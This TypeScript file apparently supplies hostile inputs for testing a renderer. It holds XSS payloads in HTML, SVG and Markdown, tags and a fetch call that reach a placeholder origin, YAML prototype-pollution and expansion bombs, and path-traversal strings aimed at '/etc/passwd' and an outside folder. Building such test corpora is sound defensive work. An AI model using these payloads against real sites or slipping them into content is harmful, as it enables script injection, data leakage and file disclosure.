/** A text that would run a script, load something or lead to a file if it were taken for more than text. */
export interface Payload {
  readonly text: string
  /** Where it is code of its own kind; otherwise it goes everywhere. */
  readonly kind: 'html' | 'markdown' | 'path'
}

/** What a payload does when it runs, in several disguises. */
const scripts = [
  'window.ran=1',
  "top['ran']=1",
  'alert(1)',
  '(0,eval)(`window.ran=1`)',
  'fetch(`ORIGIN/run`)',
] as const

const elementsThatRun = [
  '<script>JS</script>',
  '<SCRIPT/x>JS</SCRIPT>',
  '<script src="ORIGIN/a.js"></script>',
  '<script type=module>JS</script>',
  '<img src=x onerror="JS">',
  '<img/src=`x`onerror=JS>',
  '<IMG SRC=x OnErRoR=JS>',
  '<svg onload="JS">',
  '<svg><script>JS</script></svg>',
  '<svg><animate onbegin="JS" attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:JS"><text x=9 y=9>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=1 onerror=JS /></svg>#x">',
  '<svg><foreignObject><body onload="JS"></foreignObject></svg>',
  '<iframe src="javascript:JS"></iframe>',
  '<iframe srcdoc="<script>parent.ran=1</script>"></iframe>',
  '<object data="javascript:JS"></object>',
  '<embed src="javascript:JS">',
  '<details open ontoggle="JS">x</details>',
  '<body onload="JS">',
  '<input autofocus onfocus="JS">',
  '<textarea autofocus onfocus="JS"></textarea>',
  '<video src=x onerror="JS"></video>',
  '<audio src=x onerror="JS"></audio>',
  '<video><source onerror="JS"></video>',
  '<marquee onstart="JS">x</marquee>',
  '<a href="javascript:JS">x</a>',
  '<a href="&#106;avascript:JS">x</a>',
  '<a href="java&#10;script:JS">x</a>',
  '<form action="javascript:JS"><input type=submit autofocus></form>',
  '<isindex action="javascript:JS" type=submit>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=JS&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=JS>">',
  '<svg></p><style><a id="</style><img src=1 onerror=JS>">',
  '<xmp><p title="</xmp><img src=x onerror=JS>">',
  '<template><script>JS</script></template>',
  '<div contenteditable onpaste="JS" onbeforeinput="JS">x</div>',
  '<p style="animation:x 1s" onanimationstart="JS">x</p><style>@keyframes x{}</style>',
  '<button popovertarget=x>y</button><div popover id=x onbeforetoggle="JS">x</div>',
  '--><img src=x onerror=JS>',
  '"><img src=x onerror=JS>',
  "'-JS-'",
  '${JS}',
  '{{constructor.constructor("JS")()}}',
  ']]><script>JS</script>',
] as const

const elementsThatLoad = [
  '<img src="ORIGIN/i.png">',
  '<img srcset="ORIGIN/i.png 2x">',
  '<picture><source srcset="ORIGIN/i.png"><img></picture>',
  '<link rel=stylesheet href="ORIGIN/s.css">',
  '<link rel=prefetch href="ORIGIN/p">',
  '<link rel=preconnect href="ORIGIN">',
  '<link rel=modulepreload href="ORIGIN/m.js">',
  '<style>@import "ORIGIN/s.css";</style>',
  '<style>*{background:url(ORIGIN/b.png)}</style>',
  '<div style="background:url(ORIGIN/b.png)">x</div>',
  '<base href="ORIGIN/">',
  '<meta http-equiv=refresh content="0;url=ORIGIN/r">',
  '<iframe src="ORIGIN/f"></iframe>',
  '<object data="ORIGIN/o"></object>',
  '<embed src="ORIGIN/e">',
  '<video poster="ORIGIN/v.png" src="ORIGIN/v.mp4"></video>',
  '<audio src="ORIGIN/a.mp3" autoplay></audio>',
  '<track src="ORIGIN/t.vtt">',
  '<input type=image src="ORIGIN/i.png">',
  '<body background="ORIGIN/b.png">',
  '<table background="ORIGIN/b.png"><tr><td>x</td></tr></table>',
  '<svg><image href="ORIGIN/i.png"/></svg>',
  '<svg><feImage href="ORIGIN/i.png"/></svg>',
  '<a href="ORIGIN/ping" ping="ORIGIN/ping">x</a>',
  '<form action="ORIGIN/f"><button autofocus>x</button></form>',
] as const

const markdown = [
  '[x](javascript:JS)',
  '[x](JaVaScRiPt:JS)',
  '[x](java&#10;script:JS)',
  '[x](&#106;avascript:JS)',
  '[x](\u0001javascript:JS)',
  '[x](<java\tscript:JS>)',
  '[x](vbscript:JS)',
  '[x](data:text/html,<script>JS</script>)',
  '[x](data:text/html;base64,PHNjcmlwdD53aW5kb3cucmFuPTE8L3NjcmlwdD4=)',
  '[x](blob:null/x)',
  '[x](file:///etc/passwd)',
  '[x](\\\\host\\share)',
  '[x](//ORIGIN_HOST/x)',
  '[x][r]\n\n[r]: javascript:JS "t"',
  '<javascript:JS>',
  '![x](javascript:JS)',
  '![x](ORIGIN/i.png)',
  '![x](//ORIGIN_HOST/i.png)',
  '![x](data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="JS"/>)',
  '![x](data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg"><image href="ORIGIN/i.png"/></svg>)',
  '![x](data:text/html,<script>JS</script>)',
  '![JS](x "onerror=JS")',
  '![x](x" onerror="JS)',
  '[![x](ORIGIN/i.png)](javascript:JS)',
  '[[javascript:JS]]',
  '[[x|<img src=x onerror=JS>]]',
  '![[ORIGIN/i.png]]',
  '![[javascript:JS]]',
  '$\\href{javascript:JS}{x}$',
  '$\\url{javascript:JS}$',
  '$\\includegraphics{ORIGIN/i.png}$',
  '$\\htmlData{onclick=JS}{x}$',
  '$\\htmlStyle{background:url(ORIGIN/b.png)}{x}$',
  '$$\n\\def\\a{\\a\\a}\\a\n$$',
  '$$\n\\rule{999999em}{999999em}\n$$',
  '```html\n<script>JS</script>\n```',
  '```"><img src=x onerror=JS>\nx\n```',
  '```mermaid\ngraph TD; A-->B; click A "javascript:JS"\n```',
  '> [!<img src=x onerror=JS>] <script>JS</script>\n> x',
  '| a | <script>JS</script> |\n|---|---|\n| [x](javascript:JS) | ![x](ORIGIN/i.png) |',
  '- [ ] <img src=x onerror=JS>',
  '[^1]\n\n[^1]: <img src=x onerror=JS>',
  '<b onmouseover="JS">x</b> ==<i onclick=JS>y</i>==',
  '<!-- --!><img src=x onerror=JS> -->',
  '&lt;script&gt;JS&lt;/script&gt;',
  '\u2028<script>JS</script>',
  '\ufeff---\ntitle: <img src=x onerror=JS>\n---\n',
  '---\n? !!js/function "function(){JS}"\n---\n',
  '---\na: &a [x, x]\nb: &b [*a, *a]\nc: &c [*b, *b, *b, *b]\nanswers: *c\n---\n',
  '---\n__proto__: {ran: 1}\nconstructor: {prototype: {ran: 1}}\n---\n',
  '__proto__',
  'constructor',
] as const

const paths = [
  '../outside/secret.md',
  '../../outside/secret.md',
  '..%2Foutside%2Fsecret.md',
  '..%252foutside%252fsecret.md',
  '..\\outside\\secret.md',
  'OUTSIDE/secret.md',
  'file://OUTSIDE/secret.md',
  'notes/../../outside/secret.md',
  './../outside/secret.md',
  'notes/linked.md',
  'notes/linked-folder/secret.md',
  '/etc/passwd',
  '~/secret.md',
  'C:\\secret.md',
  '\\\\?\\C:\\secret.md',
  'CON',
  'secret.md\u0000.md',
  'secret.md/.',
  '....//outside//secret.md',
  '\u202edm.terces',
] as const

/** All payloads. `origin` is that of a server which must never be asked, `outside` a folder which must stay as it is. */
export function hostilePayloads(origin: string, outside: string): Payload[] {
  const fill = (text: string, js: string): string =>
    text
      .replaceAll('JS', js.replaceAll('ORIGIN', origin))
      .replaceAll('ORIGIN_HOST', new URL(origin).host)
      .replaceAll('ORIGIN', origin)
      .replaceAll('OUTSIDE', outside)
  const html = [
    ...elementsThatRun.flatMap(text => scripts.map(script => fill(text, script))),
    ...elementsThatLoad.map(text => fill(text, scripts[0])),
  ]
  const marked = markdown.flatMap(text =>
    (text.includes('JS') ? scripts.slice(0, 2) : scripts.slice(0, 1)).map(script => fill(text, script)),
  )
  const led = paths.flatMap(path => [fill(path, ''), `![x](${fill(path, '')})`, `[[${fill(path, '')}]]`])
  return [
    ...html.map(text => ({ text, kind: 'html' as const })),
    ...marked.map(text => ({ text, kind: 'markdown' as const })),
    ...led.map(text => ({ text, kind: 'path' as const })),
  ]
}
